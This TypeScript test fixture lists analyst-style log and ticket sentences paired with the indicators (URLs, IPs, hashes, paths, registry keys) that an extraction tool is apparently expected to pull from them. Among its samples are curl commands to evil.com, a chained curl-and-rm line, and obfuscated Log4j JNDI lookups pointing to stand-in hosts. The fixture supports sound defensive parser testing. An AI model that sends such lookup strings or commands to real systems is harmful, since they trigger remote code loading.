import type { Sentence } from './sentences.ts';

const MD5 = '9e107d9d372bb6826bd81d3542a419d6';
const SHA1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';

/** What tickets, chats and logs hold that an analyst would see at a glance, and what only looks like it: each was read wrongly once. */
export const ANALYST_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
  'marks of a query behind backslashes': [
    ['curl http://evil.com/a\\?b\\=1\\&c\\=2', 'url http://evil.com/a?b=1&c=2'],
    ['the pattern https:\\/\\/evil\\.com\\/login\\?user=1', 'url https://evil.com/login?user=1'],
    ['CEF:0|a|b|request=http://evil.com/a?b\\=1&c\\=2 dst=203.0.113.7', 'url http://evil.com/a?b=1&c=2', 'ipv4 203.0.113.7'],
    ['http://evil.com/a\\? and a\\=b', 'url http://evil.com/a'],
  ],
  'packages and detections that look like a host or a file': [
    ['pip install requests.io discord.py==1.7.3 and npm i left-pad@1.3.0 crypto.js'],
    ['npm install -g evil.ai'],
    ['pip install -r requirements.txt', 'filename requirements.txt'],
    ['pip install --trusted-host pypi.evil.ai', 'hostname pypi.evil.ai'],
    ['we will install evil.ai, then crypto.js', 'domain evil.ai', 'filename crypto.js'],
    ['React.js and Web3.js are used'],
    ['W97M.Downloader.ru'],
    ['W97M.Evil.ru', 'hostname w97m.evil.ru'],
  ],
  'marks at the end of a name': [
    ['the notes ReadMe!.txt and READ-ME!!!.txt', 'filename ReadMe!.txt', 'filename READ-ME!!!.txt'],
    [`ReadMe!.txt|${MD5}`, `filename|hash ReadMe!.txt|${MD5}`],
    ['user!.html, Wow!.text and !.txt'],
  ],
  'sentences right behind an address': [
    ['the IP 185.81.157.12.Cumprimentos,Equipa', 'ipv4 185.81.157.12'],
    ['the IP 185.81.157.12.Danke, Kim', 'ipv4 185.81.157.12'],
    ['the build 4.1.2.3.Final, and 185.81.157.12.Final'],
  ],
  'versions in columns': [
    ['| Affected versions | Fixed in | IP |\n|---|---|---|\n| 7.2.1.3 | 7.2.1.4 | 7.2.1.5 |', 'ipv4 7.2.1.5'],
    ['| Fixed by | Where |\n|---|---|\n| 7.2.1.3 | 7.2.1.4 |', 'ipv4 7.2.1.3', 'ipv4 7.2.1.4'],
  ],
  'user agents by a short label': [
    ['the UA string "WinHTTP Loader/1.0" is in it', 'user-agent WinHTTP Loader/1.0'],
    ['the UA "chrome", and UA "a/b"'],
  ],
  'blanks around the at and the dots': [
    ['contact: jane @ mail . evil . com', 'email jane@mail.evil.com'],
    ['contact: jane@evil . com. Next', 'email jane@evil.com'],
    ['we meet @ home . Then go, me @ work . In the end, 5 pcs @ 3 . each'],
  ],
  'URLs that go on behind a hyphen': [
    ['http://evil.com/aaa/bbb-\nccc.html', 'url http://evil.com/aaa/bbb-ccc.html'],
    ['at http://evil.com/a-\nreport/view.aspx?id=7 it', 'url http://evil.com/a-report/view.aspx?id=7'],
    ['http://evil.com/a-\nand/or', 'url http://evil.com/a-'],
    ['http://evil.com/a-\nthe report.html', 'url http://evil.com/a-', 'filename report.html'],
  ],
  'versions that are compared, brought up, or in columns of others': [
    ['affects < 9.0.1.7, <= 9.0.1.8, ≥ 9.0.1.3 and >= 9.0.1.4'],
    ['> 9.0.1.7 was seen, and < 203.0.113.7', 'ipv4 9.0.1.7', 'ipv4 203.0.113.7'],
    ['| Product | Affected | Fixed |\n|---|---|---|\n| Gate | 8.1.0.0 - 8.1.4.2 | 8.1.4.3 |'],
    ['Product;Installed;Latest\nGate;5.4.3.2;5.4.3.9'],
    ['Host;Affected\nGate;10.4.3.2', 'ipv4 10.4.3.2'],
    ['von 4.8.1.2 auf 4.8.1.5 aktualisiert (Server 10.1.1.5)', 'ipv4 10.1.1.5'],
    ['von 203.0.113.1 auf 203.0.113.2 aktualisiert', 'ipv4 203.0.113.1', 'ipv4 203.0.113.2'],
  ],
  'sentences of other languages right behind a host': [
    ['le domaine evil.fr.Il faut', 'domain evil.fr'],
    ['die Domain evil.com.Es ist', 'domain evil.com'],
    ['evil.com.au is', 'domain evil.com.au'],
  ],
  'telephone numbers with the 1 of the country': [
    ['call back 1 (800) 555-0155 or 1-(202) 555-0143', 'phone 18005550155', 'phone 12025550143'],
    ['no. 21 (202) 555-0145', 'phone 2025550145'],
  ],
  'fingerprints behind what they were made of': [
    [`JA3: 769,47-53-5,0-10-11,23-24-25,0 => ${MD5}`, `ja3 ${MD5}`],
    [`JA3S: 771,49200,65281 --> ${MD5}`, `ja3s ${MD5}`],
    [`1,2,3,4,5 => ${MD5}`, `md5 ${MD5}`],
    [
      'The thumbprint is ce d8 17 35 c5 10 86 df 40 c9 49 37 2b cd 86 10 ad 09 d9 f3.',
      'x509-fingerprint ced81735c51086df40c949372bcd8610ad09d9f3',
    ],
    [`cert.sha1: ${SHA1}`, `x509-fingerprint ${SHA1}`],
    [`{"etag":"\\"${MD5}\\""} and ETag: W/"${MD5}"`],
  ],
  'brackets in names of other scripts': [
    ['見積書(最終版).xlsx and файл(копия).exe', 'filename 見積書(最終版).xlsx', 'filename файл(копия).exe'],
    ['f(日本).toString'],
  ],
  'words cut short without a blank behind': [
    ['bzgl.der Sache, inkl.der Steuer, and Acme Inc.is a client'],
    ['inc.com, corp.io and cert.der are', 'domain inc.com', 'domain corp.io', 'filename cert.der'],
  ],
  'protocols behind a slash': [
    ['203.0.113.95/tcp, 203.0.113.96/udp', 'ipv4 203.0.113.95', 'ipv4 203.0.113.96'],
    ['203.0.113.98/tcp.sh', 'url 203.0.113.98/tcp.sh'],
  ],
  'a label of banks that was cut short': [['SWIFT-BIC.: POFICHBEXXX', 'bic POFICHBEXXX'], ['SWIFT. POFICHBEXXX']],
  'ports as firewalls and systems write them': [
    ['Deny tcp src outside:203.0.113.9/44222 dst inside:10.0.0.1/23 by', 'ipv4 203.0.113.9', 'ipv4 10.0.0.1'],
    ['from ip:203.0.113.0/24 and net:203.0.113.9/25', 'cidr 203.0.113.0/24', 'cidr 203.0.113.9/25'],
    ['10.0.0.1/51235->203.0.113.9/8443', 'ipv4 10.0.0.1', 'ipv4 203.0.113.9'],
    ['203.0.113.9/443/tcp and 203.0.113.9/443x', 'ipv4 203.0.113.9', 'url 203.0.113.9/443x'],
    ['tcp4  0  0  10.0.0.1.51234  203.0.113.9.443  ESTABLISHED', 'ip|port 10.0.0.1|51234', 'ip|port 203.0.113.9|443'],
    ['udp  0  0  1.3.6.1.4'],
  ],
  'labels behind their lengths': [
    ['Rcv 10.0.0.1 A (3)cdn(8)dns-evil(3)com(0)', 'ipv4 10.0.0.1', 'hostname cdn.dns-evil.com'],
    ['A (4)evil(3)com(0), PTR (3)old(0)', 'domain evil.com'],
    ['f(3)abc(3)com(0), (4)abc(3)com(0), (3)abc(3)com'],
  ],
  'colons behind backslashes': [
    ['distributionUrl=https\\://evil.com/a-bin.zip', 'url https://evil.com/a-bin.zip'],
    ['hxxp\\://evil.com\\:8080/b', 'url http://evil.com:8080/b'],
    ['evil\\.com\\:8080 but a\\:b', 'hostname|port evil.com|8080'],
  ],
  'labelled fields behind an URL': [
    [`IP:203.0.113.7;URL:http://evil.com/a;MD5:${MD5}`, 'ipv4 203.0.113.7', 'url http://evil.com/a', `md5 ${MD5}`],
    ['URL: http://evil.com/a,Host:evil.net', 'url http://evil.com/a', 'domain evil.net'],
    ['see http://evil.com/a;b:c', 'url http://evil.com/a;b:c'],
  ],
  'numbers of vulnerabilities over two lines': [
    ['exploits CVE-2021-\n44228 and CVE-\r\n2021-45046.', 'cve CVE-2021-44228', 'cve CVE-2021-45046'],
    ['a CVE-\n44228 and XCVE-2021-\n45046'],
  ],
  'what is written around a mark': [
    ['C2 was evil(.com). Then evil2(.net)), and the end(.)', 'domain evil.com', 'domain evil2.net'],
    ['hxxp[:]/[/]evil[.]com/x and hxxp:[/]/evil2[.]com/y', 'url http://evil.com/x', 'url http://evil2.com/y'],
    ['either/[/]or, a/[/]b.com', 'domain b.com'],
    ['xxxp://evil.com/x and xxxps://evil2.com', 'url http://evil.com/x', 'url https://evil2.com'],
    ['kötü[nokta]com.tr and evil(tečka)cz', 'domain xn--kt-fkaz.com.tr', 'domain evil.cz'],
    ['(nokta) and [tečka] are words'],
  ],
  'ligatures that a PDF was copied with': [
    ['o\uFB03ce-update.com, con\uFB01g.dll', 'domain office-update.com', 'filename config.dll'],
    ['the sta\uFB00 \uFB01led a \uFB02at report.Next'],
  ],
  'look-ups of Log4j': [
    ['\u0024{\u0024{lower:j}ndi:\u0024{lower:l}\u0024{lower:d}a\u0024{lower:p}://a.evil.com/x}', 'url ldap://a.evil.com/x'],
    ['\u0024{\u0024{::-j}\u0024{::-n}di:\u0024{::-r}\u0024{::-m}\u0024{::-i}://203.0.113.7:1389/E}', 'url rmi://203.0.113.7:1389/E'],
    ['\u0024{proto}://evil.com/x and a}://evil2.com', 'url evil.com/x', 'domain evil2.com'],
  ],
  'an URL that was broken behind its question mark': [
    ['<http://evil.com/a?\nx7>', 'url http://evil.com/a?x7'],
    ['Go to http://evil.com/a?\ntoken=1 now', 'url http://evil.com/a?token=1'],
    ['Was it http://evil.com/a?\nToken is bad.', 'url http://evil.com/a'],
    ['http://evil.com/?id=3D12&x=3Dy=\n%20z', 'url http://evil.com/?id=12&x=y%20z'],
    ['http://evil.com/?id=12&x=\nnext', 'url http://evil.com/?id=12&x='],
  ],
  'sections and versions in other languages': [
    ['Пункт 1.2.3.4, п. 3.1.2.4, Раздел 2.1.3.4 и wersja 2.3.4.5'],
    ['sürüm 3.1.2.4, verze 2.3.4.5'],
    ['узел 3.1.2.4', 'ipv4 3.1.2.4'],
  ],
  'what somebody asked a server for': [
    ['"POST /owa/auth/logon.aspx HTTP/1.1" 200 and GET /a.php?x=1'],
    ['GET /mine/random.exe, then /owa/shell.aspx', 'filename random.exe', 'filename shell.aspx'],
  ],
  'files in files': [['C:\\Temp\\a.iso->(UDF)->Setup.exe', 'windows-path C:\\Temp\\a.iso', 'filename Setup.exe']],
  'objects and sources of programs': [
    ['self.db.info, this.client.info and navigator.me'],
    ['the db.self.info', 'hostname db.self.info'],
    ['Makefile.am and evil.am', 'filename Makefile.am', 'domain evil.am'],
  ],
  'hardware addresses of digits alone': [
    ['0011.2233.4455 and MAC address 1234.5678.9012', 'mac-address 00:11:22:33:44:55', 'mac-address 12:34:56:78:90:12'],
    ['1234.5678.9012 and 0011.2233.445'],
  ],
  'a label of a hash with a remark': [[`MD5 (bytes): ${MD5.replaceAll(/..(?=.)/g, '$& ')}`, `md5 ${MD5}`]],
  'YARA rules whose expressions hold slashes and brackets': [
    [
      'rule A {\n strings:\n  $a = /x:\\/\\/[a-z]{3}\\/\\{/i\n  $b = "}"\n condition:\n  all of them\n}\n}',
      'yara rule A {\n strings:\n  $a = /x:\\/\\/[a-z]{3}\\/\\{/i\n  $b = "}"\n condition:\n  all of them\n}',
    ],
  ],
  'schemes with brackets in brackets': [
    ['(http[s]://evil.com/a), <http[s]://evil2.com/b>', 'url https://evil.com/a', 'url https://evil2.com/b'],
    ['(h(tt)p://evil.com/a) and [http]://evil2.com', 'url http://evil.com/a', 'url http://evil2.com'],
    ['http\\:\\/\\/evil.com\\/a', 'url http://evil.com/a'],
  ],
  'brackets and signs of other scripts': [
    ['evil【.】com，a【at】evil2【.】com', 'domain evil.com', 'email a@evil2.com'],
    ['evil.com【C2】，【重要】evil2.com【见下】', 'domain evil.com', 'domain evil2.com'],
    ['evil[点]com，邮箱a%40evil2.com和b(a)evil3.com', 'domain evil.com', 'email a@evil2.com', 'email b@evil3.com'],
    ['`a%40evil.com`', 'email a@evil.com'],
    ['攻击者使用loader.exe进行', 'filename loader.exe'],
  ],
  'what ends a key, a path or a pipe': [
    ['使用HKCU\\Software\\Evil\\Run进行通信', 'regkey HKCU\\Software\\Evil\\Run'],
    ["HKCU\\Software\\Evil\\Run—bad, HKCU\\Software\\Evil2's owner", 'regkey HKCU\\Software\\Evil\\Run', 'regkey HKCU\\Software\\Evil2'],
    ["HKCU\\Software\\Bob'sApp", "regkey HKCU\\Software\\Bob'sApp"],
    ['~~HKCU\\Software\\Evil~~, ~~/tmp/a.sh~~', 'regkey HKCU\\Software\\Evil', 'unix-path /tmp/a.sh'],
    ['~/x/a.sh~ and ~~/', 'unix-path ~/x/a.sh~'],
    ['*\\\\.\\pipe\\evil_1* but \\\\.\\pipe\\evil_2*', 'named-pipe \\\\.\\pipe\\evil_1', 'named-pipe \\\\.\\pipe\\evil_2*'],
  ],
  'user agents by a field in a path of fields': [
    ['http.user_agent = "EvilBot/1.0" or user_agent.original:"Evil2/1.0"', 'user-agent EvilBot/1.0', 'user-agent Evil2/1.0'],
    ['req.user_agent is set'],
  ],
  'lists of versions, numbers and names that only look like it': [
    ['Affected: 7.4.0 through 7.4.2, 7.2.0 - 7.2.6, version 6.2.0, 6.3.1, 6.3.2, 6.4.0.1; fixed'],
    ['Invoice +2024-001, but +683 4123 5', 'phone +68341235'],
    ['#main.live a.link:hover{} but #evil.live', 'domain evil.live'],
    ['-rwxr-xr-x 1 root root 48128 Mar  5 03:14 .evil.so', 'filename .evil.so'],
    ['at 48128 .evil.so', 'filename evil.so'],
  ],
  'what programs call their objects and modules': [
    ['re.search(x), time.now and buf.read of self.test, self.local'],
    ['metadata.name, test.name and kubernetes.pod.name, datetime.date, btn.click'],
    ['the domain evil.now and evil[.]read', 'domain evil.now', 'domain evil.read'],
    ['hosts:\nevil.next\nevil.call\n', 'domain evil.next', 'domain evil.call'],
    ['printer.local, test.live and chart.com', 'domain printer.local', 'domain test.live', 'domain chart.com'],
  ],
  'what stands right behind an URL': [
    ['http://evil.com【C2】, http://evil.com/a（C2）next', 'url http://evil.com', 'url http://evil.com/a'],
    ['http://evil.com-&gt;x, http://evil.com-- http://evil.com/a-->', 'url http://evil.com', 'url http://evil.com/a'],
    ['<http://evil.com/a->', 'url http://evil.com/a-'],
    ['http://evil.com+x, http://evil.com$ http://evil.com_)', 'url http://evil.com'],
    ['curl http://evil.com/a& curl http://evil.com/?b=1&& rm', 'url http://evil.com/a', 'url http://evil.com/?b=1'],
    ['http://evil.com/?a=1&&b=2 http://evil.com/a&b', 'url http://evil.com/?a=1&&b=2', 'url http://evil.com/a&b'],
    ['hxxp://evil[.]com/🔥 next', 'url http://evil.com/🔥'],
  ],
  'backslashes that are no escapes': [
    ['.\\run.ps1 and ..\\tools\\new.dll', 'windows-path .\\run.ps1', 'windows-path ..\\tools\\new.dll'],
    ['(.\\nc.exe) ends.\\nNext evil.com', 'windows-path .\\nc.exe', 'domain evil.com'],
    ['"\\u0068ttp://evil.com/a"', 'url http://evil.com/a'],
    ['^https?:\\/\\/evil\\.com\\/a\\.php$ and http://evil2.com/$a', 'url evil.com/a.php', 'url http://evil2.com/$a'],
  ],
  'words for the marks in more languages': [
    ['evil[pont]hu and a(snabel-a)evil.se, b[zavináč]evil.cz', 'domain evil.hu', 'email a@evil.se', 'email b@evil.cz'],
    ['c[kukac]evil.hu', 'email c@evil.hu'],
  ],
  'numbers of theorems and releases': [
    ['Theorem 1.2.3.4 implies Lemma 2.3.4.5; verzió: 1.2.3.4'],
    ['## [1.4.2.0] - 2024-03-05'],
    ['[198.51.100.7] 2024', 'ipv4 198.51.100.7'],
  ],
  'names that break off': [['evil[.]c…, and main.c…', 'filename main.c']],
  'folders behind a bracket, a full stop or a stand-in': [
    [
      'C:\\Program Files (x86)\\tool.exe, "C:\\Foo Inc.\\readme.txt"',
      'windows-path C:\\Program Files (x86)\\tool.exe',
      'windows-path C:\\Foo Inc.\\readme.txt',
    ],
    ['"C:\\\\Program Files (x86)\\\\new.exe"', 'windows-path C:\\Program Files (x86)\\new.exe'],
    ['\u0024{env:TEMP}\\run.ps1, <INSTALLDIR>\\new.exe', 'windows-path \u0024{env:TEMP}\\run.ps1', 'windows-path <INSTALLDIR>\\new.exe'],
    ['<br>\\nevil.com (C2)\\nevil2.com.\\nNext', 'domain evil.com', 'domain evil2.com'],
    ['in C:\\Temp\\a.exe from evil.com.\\nNext', 'windows-path C:\\Temp\\a.exe', 'domain evil.com'],
    ['x64\\Release\\new.dll and "%~dp0\\run.cmd"', 'windows-path x64\\Release\\new.dll', 'windows-path %~dp0\\run.cmd'],
  ],
  'expressions for whole words': [
    ['\\bevil\\.com\\b|(?:\\bsub\\.evil2\\.com\\b)', 'domain evil.com', 'hostname sub.evil2.com'],
    ['"\\\\bevil\\\\.com\\\\b" but D:\\bevil\\.com', 'domain evil.com', 'windows-path D:\\bevil\\.com'],
  ],
  'shares that JSON escaped': [
    ['{"a":"\\\\\\\\10.1.2.3\\\\c$\\\\temp\\\\run.exe"}', 'windows-path \\\\10.1.2.3\\c$\\temp\\run.exe'],
    ['"\\\\\\\\?\\\\C:\\\\Temp\\\\x.exe"', 'windows-path C:\\Temp\\x.exe'],
    ['the share \\\\\\\\srv01 is gone'],
  ],
  'where names of folders and files end': [
    ['C:\\new folder\\run.bat, D:\\a\\b (1).exe.', 'windows-path C:\\new folder\\run.bat', 'windows-path D:\\a\\b (1).exe'],
    ['C:\\Temp folder and C:\\key value', 'windows-path C:\\Temp', 'windows-path C:\\key'],
    ['{C:\\x\\{8F1B}\\y.dat} {HKCU\\Software\\{8F1B}}', 'windows-path C:\\x\\{8F1B}\\y.dat', 'regkey HKCU\\Software\\{8F1B}'],
    ['访问C:\\Temp进行 C:\\Temp2报告\\a.exe', 'windows-path C:\\Temp', 'windows-path C:\\Temp2报告\\a.exe'],
    ['C:\\Temp—then', 'windows-path C:\\Temp'],
  ],
};
